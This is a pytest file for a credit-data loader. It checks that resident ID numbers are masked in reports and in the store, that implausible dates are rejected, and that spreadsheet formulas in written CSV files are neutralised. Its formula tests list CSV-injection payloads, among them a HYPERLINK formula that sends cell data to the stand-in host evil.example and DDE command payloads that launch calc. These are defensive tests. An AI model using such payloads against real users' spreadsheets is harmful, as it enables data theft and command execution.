"""Issue 11, the loader's half: what a load keeps out of its reports and its store, and
what it refuses.  Resident ID numbers in rejects reports and in free text, dates that are
no dates, formulas in the CSV files creditkb writes, the report of a refused file.  Real
files on disk, loaded by the real ``creditkb`` command in a subprocess (where the user
meets it), the store read back from disk."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import subprocess
from pathlib import Path

import httpx
import openpyxl
import pytest

from graph_model.store.embedded.store import EmbeddedStore
from tests.support.api import free_port
from tests.support.cli import CREDITKB, run, wait_for_health
from tests.support.files import FIRM, FIRM2, FIRMS, ZHANG, code, rid, write

ROOT = Path(__file__).resolve().parents[2]
SECRET = {"CREDITKB_SECRET": "hardening-test-secret"}


def wrong_check(number: str) -> str:
    """The number with its check character mistyped (one of the commonest slips)."""
    return number[:17] + ("0" if number[17] != "0" else "1")


# The real numbers a clerk meant (and ZHANG, 苏州甲's legal representative in FIRMS).
LI = rid("34122119960416311")
WANG = rid("32058319920927073")
ZHAO = rid("32050619881101002")


def load(tmp_path, *paths, max_bad="1", env=None, args=()):
    return run("load", *map(str, paths), "--store", str(tmp_path / "s"), "--max-bad", max_bad,
               "--rejects-dir", str(tmp_path / "rejects"), *args, cwd=tmp_path,
               env={**SECRET, **(env or {})})


def report(tmp_path, name: str) -> list[dict]:
    text = (tmp_path / "rejects" / f"{name}.rejects.csv").read_text(encoding="utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def store_bytes(tmp_path) -> bytes:
    """Everything the embedded store keeps on disk (database and write-ahead log)."""
    return b"".join(p.read_bytes() for p in (tmp_path / "s").iterdir() if p.is_file())


# -- 1. resident ID numbers in rejects reports -------------------------------------------


def test_rejects_reports_and_messages_never_tell_a_resident_id(tmp_path):
    data = tmp_path / "in"
    typed = {  # what the clerks typed: every one is a slip of a real person's number
        "zhang": wrong_check(ZHANG),  # wrong check character: the report named the right one
        "li": LI[:-1],  # 17 characters
        "wang": rid(WANG[:10] + "13" + WANG[12:17]),  # month 13, check character right
        "zhao": wrong_check(ZHAO),
        "firm": WANG,  # a person's number given as a firm's code
    }
    write(data, "enterprises.csv", FIRMS + f"{code('91320412MA1P5L2U4')},常州丙,320412,李四,"
                                           f"{typed['zhang']}\n")
    write(data, "practitioners.csv",
          "身份证号,姓名,所在地区划代码\n"
          f"{typed['li']},李明,320505\n{typed['wang']},王五,320505\n{ZHAO},赵六,320506\n")
    write(data, "penalties.csv",
          "处罚决定书文号,对象类型,对象代码,违法行为,处罚决定日期,处罚机关,处罚机关区划代码\n"
          f"苏交罚〔2024〕1号,人员,{typed['zhao']},超速,2024-05-01,苏州市交通运输局,320500\n"
          f"苏交罚〔2024〕2号,企业,{typed['firm']},超限,2024-05-01,苏州市交通运输局,320500\n"
          f"苏交罚〔2024〕3号,,{typed['li']},超载,2024-05-01,苏州市交通运输局,320500\n"
          f"苏交罚〔2024〕4号,企业,{FIRM},超载,2024-05-01,苏州市交通运输局,320500\n")
    out = load(tmp_path, data)
    assert out.returncode == 0, out.stderr
    rows = {name: report(tmp_path, name) for name in ("enterprises", "practitioners", "penalties")}
    shown = out.stdout + out.stderr + "".join(
        (tmp_path / "rejects" / f).read_text(encoding="utf-8-sig")
        for f in ("enterprises.rejects.csv", "practitioners.rejects.csv", "penalties.rejects.csv"))
    for number in [*typed.values(), ZHANG, LI, WANG, ZHAO]:
        assert number not in shown and number[6:14] not in shown  # nor its birth date
    person_reasons = [r["reason"] for r in rows["enterprises"] + rows["practitioners"]]
    assert not [r for r in person_reasons if re.search(r"check character \(expected", r)]
    [rep] = rows["enterprises"]
    assert (rep["column"], rep["value"], rep["reason"]) == (
        "法定代表人身份证号", typed["zhang"][:6] + "********" + typed["zhang"][-4:],
        "wrong check character")
    people = {r["row"]: r for r in rows["practitioners"]}
    assert people["2"]["value"] == LI[:6] + "*" * 11  # malformed: only the region is kept
    assert people["3"]["reason"] == "impossible birth date (characters 7-14)"
    penalties = {r["row"]: r for r in rows["penalties"]}
    assert penalties["2"]["reason"] == "wrong check character"
    assert penalties["3"]["value"] == WANG[:6] + "********" + WANG[-4:]  # not a USCC: masked
    assert penalties["4"]["value"] == LI[:6] + "*" * 11

    # A refused file: its message names the first bad cell, never the number.
    refused = load(tmp_path, write(tmp_path / "again", "practitioners.csv",
                                   f"身份证号,姓名\n{typed['zhao']},赵六\n"), max_bad="0")
    assert refused.returncode == 1
    assert "(first: row 2, 身份证号: wrong check character)" in refused.stderr
    assert typed["zhao"] not in refused.stderr and ZHAO not in refused.stderr


def test_a_subject_lookup_error_does_not_repeat_a_mistyped_resident_id():
    from queries.search.subjects import subject_uid

    with pytest.raises(ValueError) as err:
        subject_uid(LI[:-1], "k")  # 17 characters: no kind of code
    assert LI[:-1] not in str(err.value) and LI[:6] in str(err.value)


# -- 2. resident ID numbers in free text --------------------------------------------------


def test_resident_ids_in_free_text_are_masked_at_load_and_reported(tmp_path):
    data = tmp_path / "in"
    legacy = "320402840312035"  # the 15-digit first-generation form, labelled as such
    order = "202601011234567890"  # 18 digits, but no person's number (no birth date in it)
    write(data, "enterprises.csv",
          "统一社会信用代码,企业名称,注册地区划代码,法定代表人姓名,法定代表人身份证号,备注\n"
          f"{FIRM},苏州甲运输有限公司（法人{ZHANG}）,320505,张三,{ZHANG},联系人 "
          f"{' '.join(LI[i:i + 4] for i in range(0, 18, 4))}\n"
          f"{FIRM2},无锡乙物流有限责任公司,320211,,,订单号{order}\n")
    write(data, "list_entries.csv",
          "名单类型,对象类型,对象代码,列入日期,列入原因,认定机关,认定机关区划代码\n"
          f"重点关注,企业,{FIRM},2024-03-01,驾驶员（身份证号：{WANG}）超速三次,苏州市交通运输局,"
          f"320500\n")
    full_width = ZHAO.translate(str.maketrans("0123456789", "０１２３４５６７８９"))
    write(data, "commitments.csv",
          "对象类型,对象代码,承诺类型,承诺日期,受理机关,受理机关区划代码\n"
          f"企业,{FIRM2},信用承诺{full_width},2024-04-01,无锡市交通运输局,320200\n")
    write(data, "penalties.csv",
          "处罚决定书文号,对象类型,对象代码,违法行为,处罚决定日期,处罚机关,处罚机关区划代码\n"
          f"苏交罚〔2024〕9号,企业,{FIRM},驾驶员身份证号{legacy}未取得从业资格,2024-05-01,"
          f"苏州市交通运输局,320500\n")
    out = load(tmp_path, data, max_bad="0")
    assert out.returncode == 0, out.stderr
    # Kept, masked, in the store; the clear numbers nowhere on its disk.
    disk = store_bytes(tmp_path)
    for number in (ZHANG, LI, WANG, ZHAO, legacy, full_width):
        assert number.encode() not in disk and number[6:14].encode() not in disk
    assert order.encode() in disk  # a long number that is no resident ID stays as written
    store = EmbeddedStore(str(tmp_path / "s"))
    try:
        firm = store.get_nodes([f"Enterprise:{FIRM}"])[f"Enterprise:{FIRM}"].props
        assert firm["name"] == f"苏州甲运输有限公司（法人{ZHANG[:6]}********{ZHANG[-4:]}）"
        assert firm["备注"] == f"联系人 {LI[:6]}********{LI[-4:]}"
        [entry] = store.find_nodes("ListEntry")
        assert entry.props["reason"] == f"驾驶员（身份证号：{WANG[:6]}********{WANG[-4:]}）超速三次"
        [commitment] = store.find_nodes("Commitment")
        assert commitment.props["kind"] == f"信用承诺{ZHAO[:6]}********{ZHAO[-4:]}"
        [penalty] = store.find_nodes("Penalty")
        assert penalty.props["violation"] == f"驾驶员身份证号{legacy[:6]}*****{legacy[-4:]}未取得从业资格"
    finally:
        store.close()
    # Each column where numbers were masked is a finding naming its rows, never a number.
    findings = [line for line in out.stdout.splitlines() if "resident ID number in" in line]
    for column in ("企业名称 (name)", "备注", "列入原因 (reason)", "承诺类型 (kind)",
                   "违法行为 (violation)"):
        assert any(column in f and f.endswith("(rows 2)") for f in findings), (column, findings)
    for number in (ZHANG, LI, WANG, ZHAO, legacy):
        assert number not in out.stdout + out.stderr


def test_the_scanner_is_one_function_of_graph_model_a_mutation_can_call():
    import pandas as pd

    from graph_model.personal_data import mask_ric_text

    cells = pd.Series([f"当事人{ZHANG}", "苏E12345", None, f"{ZHANG}{ZHANG}"], dtype="string")
    masked, hit = mask_ric_text(cells)
    assert masked.tolist()[:3] == [f"当事人{ZHANG[:6]}********{ZHANG[-4:]}", "苏E12345", pd.NA]
    assert masked.tolist()[3] == f"{ZHANG}{ZHANG}"  # part of a longer code: not one number
    assert hit.tolist() == [True, False, False, False]


# -- 3. dates -----------------------------------------------------------------------------

PENALTY_HEAD = "处罚决定书文号,对象类型,对象代码,违法行为,处罚决定日期,处罚机关,处罚机关区划代码\n"


def penalty(n: int, day: str) -> str:
    return f"苏交罚〔2024〕{n}号,企业,{FIRM},超速,{day},苏州市交通运输局,320500\n"


def test_csv_date_cells_are_never_excel_day_numbers_and_must_be_plausible(tmp_path):
    assert load(tmp_path, write(tmp_path / "a", "enterprises.csv", FIRMS)).returncode == 0
    cells = ["2026", "202601", "1", "9999-12-31", "0001-01-01", "1905-07-18", "2026-01-05"]
    text = PENALTY_HEAD + "".join(penalty(i, d) for i, d in enumerate(cells, 1))
    out = load(tmp_path, write(tmp_path / "b", "penalties.csv", text))
    assert out.returncode == 0, out.stderr
    assert "7 rows read, 1 loaded, 6 rejected" in out.stdout
    today = dt.date.today()
    window = f"outside the plausible window 1949-10-01 to {today.replace(year=today.year + 10)}"
    reasons = {r["value"]: (r["column"], r["reason"]) for r in report(tmp_path, "penalties")}
    number = "not a date (YYYY-MM-DD): a CSV file's numbers are not read as Excel day numbers"
    assert reasons == {"2026": ("处罚决定日期", number), "202601": ("处罚决定日期", number),
                       "1": ("处罚决定日期", number), "9999-12-31": ("处罚决定日期", window),
                       "0001-01-01": ("处罚决定日期", window), "1905-07-18": ("处罚决定日期", window)}
    store = EmbeddedStore(str(tmp_path / "s"))
    try:
        assert [p.props["decision_date"] for p in store.find_nodes("Penalty")] == ["2026-01-05"]
    finally:
        store.close()


def test_a_workbooks_day_numbers_are_dates_inside_the_window(tmp_path):
    assert load(tmp_path, write(tmp_path / "a", "enterprises.csv", FIRMS)).returncode == 0
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(PENALTY_HEAD.strip().split(","))
    sheet.append(["苏交罚〔2024〕1号", "企业", FIRM, "超速", 45000, "苏州市交通运输局", "320500"])
    sheet.append(["苏交罚〔2024〕2号", "企业", FIRM, "超速", 1, "苏州市交通运输局", "320500"])
    sheet.append(["苏交罚〔2024〕3号", "企业", FIRM, "超速", dt.datetime(2024, 5, 1),
                  "苏州市交通运输局", "320500"])
    book.save(tmp_path / "penalties.xlsx")
    out = load(tmp_path, tmp_path / "penalties.xlsx")
    assert out.returncode == 0, out.stderr
    [bad] = report(tmp_path, "penalties")
    assert (bad["row"], bad["value"]) == ("3", "1") and "outside the plausible window" in bad["reason"]
    store = EmbeddedStore(str(tmp_path / "s"))
    try:
        days = sorted(p.props["decision_date"] for p in store.find_nodes("Penalty"))
    finally:
        store.close()
    assert days == ["2023-03-15", "2024-05-01"]  # Excel day 45000 is 2023-03-15


def test_the_end_of_a_term_may_lie_further_ahead_and_the_window_is_a_setting(tmp_path):
    firms = ("统一社会信用代码,企业名称,注册地区划代码,成立日期\n"
             f"{FIRM},苏州甲运输有限公司,320505,1936-05-01\n{FIRM2},无锡乙,320211,2001-01-01\n")
    out = load(tmp_path, write(tmp_path / "a", "enterprises.csv", firms))
    assert "1 rejected" in out.stdout  # 1936: before the default window
    out = load(tmp_path, write(tmp_path / "b", "enterprises.csv", firms.replace("无锡乙", "无锡乙物流")),
               env={"CREDITKB_DATE_EARLIEST": "1900-01-01"})
    assert "2 rows read, 2 loaded, 0 rejected" in out.stdout, out.stdout + out.stderr
    evaluations = ("对象类型,对象代码,评价体系,信用等级,评价机关,评价机关区划代码,有效期起,有效期止\n"
                   f"企业,{FIRM},道路运输经营者信用评价,A,苏州市交通运输局,320500,2024-01-01,2099-12-31\n"
                   f"企业,{FIRM2},道路运输经营者信用评价,A,苏州市交通运输局,320500,2024-01-01,9999-12-31\n")
    out = load(tmp_path, write(tmp_path / "c", "evaluations.csv", evaluations))
    assert "2 rows read, 1 loaded, 1 rejected" in out.stdout, out.stdout + out.stderr
    [bad] = report(tmp_path, "evaluations")
    assert bad["column"] == "有效期止" and bad["value"] == "9999-12-31"
    bad_setting = load(tmp_path, tmp_path / "c", env={"CREDITKB_DATE_FUTURE_YEARS": "ten"})
    assert bad_setting.returncode == 1 and "CREDITKB_DATE_FUTURE_YEARS='ten'" in bad_setting.stderr


def test_the_apis_as_of_must_be_plausible_too(tmp_path):
    assert load(tmp_path, write(tmp_path / "a", "enterprises.csv", FIRMS)).returncode == 0
    store = ["--store", str(tmp_path / "s")]
    created = run("keys", "create", "--agency", "苏州市交通运输局", "--region", "320500",
                  "--role", "regulator", *store, cwd=tmp_path)
    token = created.stdout.split("key (shown once, only its hash is kept): ")[1].strip()
    port = free_port()
    proc = subprocess.Popen([*CREDITKB, "serve", *store, "--port", str(port)], cwd=tmp_path,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            env={**os.environ, **SECRET})
    try:
        wait_for_health(proc, port)

        def watchlist(day: str) -> dict:
            query = f'{{ sharedWatchlist(asOf: "{day}") {{ edges {{ cursor }} }} }}'
            return httpx.post(f"http://127.0.0.1:{port}/graphql", json={"query": query},
                              headers={"authorization": f"Bearer {token}",
                                       "accept-language": "en"}, timeout=10).json()

        for day in ("0001-01-01", "9999-12-31", "1900-01-01"):
            [error] = watchlist(day)["errors"]
            assert error["extensions"]["code"] == "BAD_USER_INPUT"
            # (the API's Date scalar holds every date argument to the widest window, a
            # term's; asOf is held to an event's after it)
            assert f"{day} is outside the plausible window 1949-10-01 to " in error["message"]
        assert watchlist("2026-01-01") == {"data": {"sharedWatchlist": {"edges": []}}}
    finally:
        proc.terminate()
        proc.wait(10)


# -- 4. formulas in the CSV files creditkb writes -----------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", " =1+1"]


def test_rejects_reports_neutralise_cells_a_spreadsheet_would_run(tmp_path):
    rows = "".join(f'"{f.replace(chr(34), chr(34) * 2)}",客车,320505\n' for f in FORMULAS)
    path = write(tmp_path / "in", "vehicles.csv", "车牌号码,车辆类型,所在地区划代码\n苏E12345,客车,320505\n"
                 + rows + "苏E23456,客车,-5\n")
    out = load(tmp_path, path)
    assert out.returncode == 0, out.stderr
    values = [r["value"] for r in report(tmp_path, "vehicles")]
    assert values == ["'" + FORMULAS[0], "'" + FORMULAS[1], "'" + FORMULAS[2], "'" + FORMULAS[3],
                      "'=1+1", "-5"]  # (cells are stripped; a plain number is no formula)


def test_every_csv_creditkb_writes_goes_through_the_one_helper():
    sources = [p for folder in ("creditkb", "loaders", "api", "queries", "graph_model", "bench")
               for p in (ROOT / folder).rglob("*.py")]
    writers = re.compile(r"\.to_csv\(|csv\.writer|csv\.DictWriter")
    offenders = [str(p.relative_to(ROOT)) for p in sources
                 if p.name != "csv_safety.py" and writers.search(p.read_text(encoding="utf-8"))]
    assert offenders == []


# -- 5. the report of a refused file -------------------------------------------------------


def test_a_refused_file_still_writes_its_report_with_the_files_own_headers(tmp_path):
    vehicles = write(tmp_path / "in", "vehicles.csv",
                     "Plate,车辆类型,所在地区划代码\n苏E12345,客车,320505\n苏E1234,客车,320505\n")
    out = load(tmp_path, vehicles, max_bad="0")
    assert out.returncode == 1
    target = tmp_path / "rejects" / "vehicles.rejects.csv"
    assert f"rejects in {target}" in out.stderr and "row 3, Plate:" in out.stderr
    [bad] = report(tmp_path, "vehicles")
    assert (bad["row"], bad["column"], bad["value"]) == ("3", "Plate", "苏E1234")

    # A profile's headers (无锡's case system), not the exchange format's names.
    head = "案件编号,当事人类型,当事人证件号码,当事人名称,案由,处罚种类,罚没金额（元）,决定日期," \
           "执法机构,执法机构区划,信用影响,案件状态\n"
    agency = "无锡市交通运输综合行政执法支队,320200,一般,有效"
    wuxi = write(tmp_path / "wuxi", "cases.csv",
                 head + f"锡交执罚〔2024〕1号,企业,{FIRM},苏州甲,超限,罚款,100,2024-13-01,{agency}\n"
                 f"锡交执罚〔2024〕2号,企业,{FIRM},苏州甲,超限,罚款,100,2024-12-01,{agency}\n")
    out = load(tmp_path, wuxi, max_bad="0")
    assert out.returncode == 1 and "cases.rejects.csv" in out.stderr
    columns = {r["column"] for r in report(tmp_path, "cases")}
    assert columns == {"当事人证件号码", "决定日期"}  # unknown firm, and no such month
